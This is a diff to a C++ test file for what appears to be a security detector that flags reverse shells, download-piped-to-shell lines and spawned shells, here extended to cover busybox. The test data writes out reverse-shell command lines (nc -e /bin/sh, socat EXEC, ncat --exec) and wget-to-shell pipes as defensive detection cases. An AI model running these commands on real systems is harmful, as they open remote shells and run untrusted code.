@@ -50,9 +50,15 @@ TEST_CASE("What an execution ran") {
   CHECK(executed_file(ran("/bin/bash", {"bash", "-ex", "-o", "pipefail", "p.sh"})) == "p.sh");
   CHECK(executed_file(ran("/usr/bin/python3", {"python3", "-u", "p.py"})) == "p.py");
   CHECK(executed_file(ran("/lib64/ld-linux-x86-64.so.2", {"ld", "/tmp/x"})) == "/tmp/x");
+  CHECK(executed_file(ran("/lib/ld-musl-x86_64.so.1", {"ld", "/tmp/x"})) == "/tmp/x");
+  CHECK(executed_file(ran("/bin/busybox", {"busybox", "sh", "/tmp/p.sh"})) == "/tmp/p.sh");
+  CHECK(executed_file(ran("/bin/busybox", {"sh", "/tmp/p.sh"})) == "/tmp/p.sh");
+  CHECK(executed_file(ran("/bin/busybox", {"busybox", "ash"})) == "-");
+  CHECK(executed_file(ran("/bin/busybox", {"busybox", "wget", "x"})) == "/bin/busybox");
+  CHECK(executed_file(ran("/bin/busybox")) == "/bin/busybox");
   for (const auto& code :
-       {ran("/bin/sh", {"sh", "-c", "wget x"}), ran("/bin/sh", {"sh", "-ec", "x"}),
-        ran("/usr/bin/perl", {"perl", "-e", "x"}),
+       {ran("/bin/sh", {"sh", "-c", "wget x"}), ran("/bin/busybox", {"busybox", "sh", "-c", "x"}),
+        ran("/bin/sh", {"sh", "-ec", "x"}), ran("/usr/bin/perl", {"perl", "-e", "x"}),
         ran("/usr/bin/python3", {"python3", "-m", "pip"}), ran(""), ran("/bin/sh")})
     CHECK(executed_file(code).empty());
   for (const auto& told :
@@ -71,6 +77,8 @@ TEST_CASE("Reverse shells by process and arguments") {
   for (const auto& shell :
        {by("/usr/bin/nc", {"nc", "-e", "/bin/sh", "192.0.2.1", "4444"}),
         by("/bin/nc", {"nc", "192.0.2.1", "4444", "-e", "/bin/sh"}),
+        by("/bin/busybox", {"busybox", "nc", "192.0.2.1", "4444", "-e", "/bin/sh"}),
+        by("/bin/busybox", {"nc", "192.0.2.1", "4444", "-e", "/bin/sh"}),
         by("/usr/bin/nc.traditional", {"nc", "-nve", "/bin/sh", "192.0.2.1", "1"}),
         by("/usr/bin/ncat", {"ncat", "--exec", "/bin/sh", "192.0.2.1", "1"}),
         by("/usr/bin/socat", {"socat", "tcp:192.0.2.1:1", "EXEC:/bin/sh,pty"}),
@@ -93,6 +101,7 @@ TEST_CASE("Reverse shells by process and arguments") {
   for (const auto& none :
        {by("/usr/bin/wget", {"wget", "-e", "robots=off", "http://a"}),
         by("/usr/bin/curl", {"curl"}), by("/bin/nc", {"nc", "-zv", "db", "5432"}), by(""),
+        by("/bin/busybox", {"busybox", "wget", "http://a"}),
         by("/usr/bin/python3", {"python3", "-c", "import urllib.request"}),
         by("/usr/bin/python3", {"python3", "-m", "pip", "install", "python-socketio"}),
         by("/usr/bin/socat", {"socat", "-", "tcp:192.0.2.1:1"})})
@@ -105,6 +114,7 @@ TEST_CASE("Downloads that go into a shell") {
   CHECK(pipe_to_shell("RUN apk add curl && wget -qO- http://a/x.sh |bash -s -- y") ==
         "wget -qO- http://a/x.sh |bash");
   CHECK_FALSE(pipe_to_shell("/bin/sh -c curl http://a | tee /tmp/x | sudo /bin/bash").empty());
+  CHECK_FALSE(pipe_to_shell("RUN busybox wget -qO- http://a | busybox sh").empty());
   for (const auto* none :
        {"RUN curl -o x http://a || sh y", "RUN curl http://a | tar xz", "RUN cat x | sh",
         "RUN curl http://a; cat x | sh", "RUN curl http://a | shasum -c", "RUN x", ""}) {
@@ -176,10 +186,12 @@ TEST_CASE("A shell that the connection's process became or started") {
   child.ppid = 21;
   CHECK(shell_of(child, agent).empty());
   CHECK(shell_of(ran("/usr/bin/make", {"make"}), agent).empty());
+  CHECK_FALSE(shell_of(ran("/bin/busybox", {"busybox", "ash"}), agent).empty());
 }
 
 TEST_CASE("Unpacking") {
   CHECK(detect::unpacker(ran("/bin/tar", {"tar", "xz"})) == "tar xz");
+  CHECK(detect::unpacker(ran("/bin/busybox", {"busybox", "tar", "xz"})) == "busybox tar xz");
   CHECK(detect::unpacker(ran("/usr/bin/gcc", {"gcc"})).empty());
   DockerfileSeen file;
   file.instructions = {{"FROM scratch", false, true}, {"ADD rootfs.tar.xz /", false, false}};
